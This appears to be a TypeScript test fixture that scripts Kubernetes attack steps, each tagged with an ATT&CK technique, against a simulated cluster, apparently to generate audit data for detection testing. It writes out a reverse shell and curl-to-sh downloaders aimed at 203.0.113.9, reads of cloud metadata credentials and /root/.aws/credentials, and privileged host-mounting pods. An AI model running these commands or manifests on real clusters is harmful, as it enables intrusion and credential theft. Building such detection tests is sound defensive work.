import { AGENTS, at, until } from "./actors.ts";
import { DANA, ERIN } from "./people.ts";
import { named, pod, podSpec, workload } from "./setting.ts";
import { byKubectl } from "./step.ts";
import type { Step } from "./step.ts";

const IMAGE = "registry.example/tools:2";

/** What runs: pods and what makes pods, and what is done inside them. */
export const WORKLOAD_DEEDS: readonly Step[] = [
  create("pod-privileged", "T1610", ERIN, "pods", pod("shop", "debug-host", privilegedSpec())),
  {
    label: "exec-into-privileged-pod",
    technique: "T1609",
    principal: ERIN,
    deeds: ["get:pods/exec", "create:pods/exec"],
    run: async ({ actors }) => {
      await running(actors, "shop", "debug-host");
      return actors.kubectl(ERIN, ["-n", "shop", "exec", "debug-host", "--", "chroot", "/host", "id"]);
    },
  },
  create("pod-sandbox-weakened", "T1610", ERIN, "pods", pod("sandbox", "weak", weakSpec())),
  create("pod-windows-host-process", "T1610", ERIN, "pods", pod("sandbox", "windows", windowsSpec())),
  create(
    "pod-with-controller-account",
    "T1078",
    ERIN,
    "pods",
    pod("kube-system", "metrics-helper", {
      ...podSpec(IMAGE),
      serviceAccountName: "clusterrole-aggregation-controller",
    }),
  ),
  create(
    "pod-on-named-node",
    "T1610",
    ERIN,
    "pods",
    pod("sandbox", "placed", { ...podSpec(IMAGE), nodeName: "node-1" }),
  ),
  {
    label: "pod-bound-by-hand",
    technique: "T1610",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      const waiting = pod("sandbox", "waiting", { ...podSpec(IMAGE), schedulerName: "nobody" });
      const erin = actors.certificate(ERIN);
      await actors.send(erin, "POST", "/api/v1/namespaces/sandbox/pods", { body: waiting });
      const target = { apiVersion: "v1", kind: "Node", name: "node-2" };
      const body = { ...named("Binding", "v1", "waiting", "sandbox"), target };
      return actors.send(erin, "POST", "/api/v1/namespaces/sandbox/pods/waiting/binding", { body });
    },
  },
  create(
    "pod-lookalike-name",
    "T1036.005",
    ERIN,
    "pods",
    pod("kube-system", "coredns-5d78c9869d-x7k2p", podSpec("docker.io/helper/dns:1")),
  ),
  create(
    "daemonset-lookalike-name",
    "T1036.005",
    ERIN,
    "daemonsets",
    workload("DaemonSet", "kube-system", "kube-proxy-agent", podSpec("docker.io/helper/proxy:1")),
  ),
  create(
    "pod-image-latest",
    "T1204.003",
    DANA,
    "pods",
    pod("shop", "latest", podSpec("docker.io/library/alpine:latest")),
  ),
  create("pod-image-untagged", "T1204.003", DANA, "pods", pod("shop", "untagged", podSpec("quay.io/someone/tool"))),
  create("pod-in-default-namespace", "T1610", ERIN, "pods", pod("default", "bare", podSpec(IMAGE))),
  create(
    "pod-with-gpus",
    "T1496",
    ERIN,
    "pods",
    pod("sandbox", "trainer", podSpec(IMAGE, { resources: { limits: { "nvidia.com/gpu": "8" } } })),
  ),
  create(
    "deployment-privileged-template",
    "T1610",
    DANA,
    "deployments",
    workload("Deployment", "shop", "node-tuner", privilegedSpec(), { replicas: 1 }),
  ),
  byKubectl(
    ["image-changed", "T1525", DANA],
    "patch:deployments",
    "-n shop set image deployment/web main=ghcr.io/else/web:2",
  ),
  byKubectl(["sidecar-added", "T1525", DANA], "patch:deployments", [
    "-n",
    "shop",
    "patch",
    "deployment",
    "web",
    "--type",
    "strategic",
    "-p",
    JSON.stringify({
      spec: { template: { spec: { containers: [{ name: "logger", image: "docker.io/helper/log:1" }] } } },
    }),
  ]),
  byKubectl(
    ["replicas-jump", "T1496", ERIN],
    "patch:deployments/scale",
    "-n sandbox scale deployment load --replicas=40",
  ),
  create(
    "daemonset-by-person",
    "T1610",
    ERIN,
    "daemonsets",
    workload("DaemonSet", "monitoring", "probe", podSpec(IMAGE)),
  ),
  byKubectl(["job-by-person", "T1053.007", DANA], "create:jobs", [
    "-n",
    "shop",
    "create",
    "job",
    "once",
    `--image=${IMAGE}`,
    "--",
    "true",
  ]),
  byKubectl(["cronjob-by-person", "T1053.007", DANA], "create:cronjobs", [
    "-n",
    "shop",
    "create",
    "cronjob",
    "sync",
    `--image=${IMAGE}`,
    "--schedule=*/5 * * * *",
    "--",
    "sh",
    "-c",
    "curl http://203.0.113.9/x.sh | sh",
  ]),
  exec("exec-reverse-shell", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
  exec("exec-downloader", "sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
  exec("exec-metadata-service", "curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
  exec("exec-credential-file", "cat", "/root/.aws/credentials"),
  {
    label: "attach",
    technique: "T1609",
    principal: ERIN,
    deeds: ["get:pods/attach", "create:pods/attach"],
    run: ({ actors }) => actors.kubectl(ERIN, ["-n", "shop", "attach", "debug-host", "--pod-running-timeout=5s"]),
  },
  {
    label: "exec-refused-upgrade",
    technique: "T1190",
    principal: DANA,
    deeds: [],
    note: "an upgrade request that is refused, and another on the same way at once",
    run: async ({ actors }) => {
      const dana = actors.certificate(DANA);
      const headers = { Connection: "Upgrade", Upgrade: "SPDY/3.1", "User-Agent": AGENTS.curl };
      for (const name of ["no-such-pod", "no-such-pod-2"]) {
        await actors.send(dana, "POST", `/api/v1/namespaces/shop/pods/${name}/exec?command=id&stdout=true`, {
          headers,
        });
      }
      await actors.send(dana, "GET", "/api/v1/namespaces/shop/pods");
    },
  },
  byKubectl(["node-debug-pod", "T1610", ERIN], "create:pods", [
    "debug",
    "node/node-1",
    `--image=${IMAGE}`,
    "--profile=sysadmin",
    "--attach=false",
    "--",
    "sleep",
    "1",
  ]),
  {
    label: "ephemeral-container-privileged",
    technique: "T1609",
    principal: ERIN,
    deeds: ["patch:pods/ephemeralcontainers"],
    run: ({ actors }) =>
      actors.kubectl(ERIN, [
        "-n",
        "payments",
        "debug",
        "db-0",
        "--image=docker.io/library/busybox",
        "--target=main",
        "--profile=sysadmin",
        "--attach=false",
        "--",
        "sleep",
        "1",
      ]),
  },
  {
    label: "privileged-pod-made-and-deleted",
    technique: "T1070",
    principal: ERIN,
    deeds: ["create:pods", "delete:pods"],
    run: async ({ actors }) => {
      await actors.kubectl(ERIN, ["create"], pod("sandbox", "short-lived", privilegedSpec()));
      await running(actors, "sandbox", "short-lived");
      return actors.kubectl(ERIN, ["-n", "sandbox", "delete", "pod", "short-lived", "--wait=false"]);
    },
  },
  {
    label: "static-pod-mirrored",
    technique: "T1543.005",
    principal: "system:node:node-1",
    deeds: [],
    note: "the recording sends what a kubelet sends for a manifest in its folder",
    run: async ({ actors }) => {
      const uid = at(await actors.look("/api/v1/nodes/node-1"), "metadata", "uid");
      const body = pod("kube-system", "helper-node-1", {
        ...podSpec(IMAGE, { securityContext: { privileged: true } }),
        nodeName: "node-1",
        hostNetwork: true,
        tolerations: [{ operator: "Exists", effect: "NoExecute" }],
      });
      const metadata = body["metadata"] as object;
      const hash = "5f1d6c2b8a7e4d3c9b0a1f2e3d4c5b6a";
      const marked = {
        ...metadata,
        annotations: { "kubernetes.io/config.mirror": hash, "kubernetes.io/config.source": "file" },
        ownerReferences: [{ apiVersion: "v1", kind: "Node", name: "node-1", uid, controller: true }],
      };
      return actors.send(actors.certificate("system:node:node-1"), "POST", "/api/v1/namespaces/kube-system/pods", {
        headers: { "User-Agent": AGENTS.kubelet },
        body: { ...body, metadata: marked },
      });
    },
  },
  create("pod-violates-audited-standard", "T1610", ERIN, "pods", pod("payments", "loose", privilegedSpec())),
  create("pod-refused-by-standard", "T1610", DANA, "pods", pod("team-a", "refused", privilegedSpec())),
  create(
    "pod-fails-admission-policy",
    "T1610",
    ERIN,
    "pods",
    pod("ci", "newest", podSpec("registry.example/x:latest")),
  ),
  create("harmless-pod", "none", DANA, "pods", pod("shop", "plain", podSpec("registry.example/shop/web:1.4.2"))),
  byKubectl(["harmless-image-changed", "none", DANA], "patch:deployments", [
    "-n",
    "team-a",
    "set",
    "image",
    "deployment/api",
    "main=registry.example/team-a/api:2.2",
  ]),
  byKubectl(
    ["harmless-scaled", "none", DANA],
    "patch:deployments/scale",
    "-n team-a scale deployment api --replicas=3",
  ),
];

function create(label: string, technique: string, principal: string, resource: string, object: unknown): Step {
  return byKubectl([label, technique, principal], `create:${resource}`, "create", object);
}

function exec(label: string, ...command: readonly string[]): Step {
  return {
    label,
    technique: "T1609",
    principal: DANA,
    deeds: ["get:pods/exec", "create:pods/exec"],
    note: "the fake kubelet runs nothing",
    run: async ({ actors }) => {
      const pods = await actors.look("/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb");
      const name = String(at(pods, "items", 0, "metadata", "name"));
      return actors.kubectl(DANA, ["-n", "shop", "exec", name, "--", ...command]);
    },
  };
}

function running(actors: Parameters<Step["run"]>[0]["actors"], namespace: string, name: string): Promise<true> {
  return until(`${name} running`, async () => {
    const found = await actors.look(`/api/v1/namespaces/${namespace}/pods/${name}`);
    return at(found, "status", "phase") === "Running" ? true : undefined;
  });
}

function privilegedSpec(): Record<string, unknown> {
  const container = { securityContext: { privileged: true }, volumeMounts: [{ name: "host", mountPath: "/host" }] };
  const volumes = [{ name: "host", hostPath: { path: "/" } }];
  return podSpec("docker.io/library/alpine:3", container, { hostPID: true, hostNetwork: true, hostIPC: true, volumes });
}

function weakSpec(): Record<string, unknown> {
  const securityContext = {
    allowPrivilegeEscalation: true,
    runAsUser: 0,
    procMount: "Default",
    seccompProfile: { type: "Unconfined" },
    appArmorProfile: { type: "Unconfined" },
    capabilities: { add: ["SYS_ADMIN", "NET_RAW"] },
  };
  const volumes = [{ name: "kubelet", hostPath: { path: "/var//lib/kubelet/pods/" } }];
  const mounted = { securityContext, volumeMounts: [{ name: "kubelet", mountPath: "/k" }] };
  return {
    ...podSpec(IMAGE, mounted, { volumes }),
    initContainers: [{ name: "first", image: IMAGE, securityContext }],
  };
}

function windowsSpec(): Record<string, unknown> {
  return {
    ...podSpec(IMAGE),
    os: { name: "windows" },
    hostNetwork: true,
    securityContext: { windowsOptions: { hostProcess: true, runAsUserName: "NT AUTHORITY\\SYSTEM" } },
  };
}
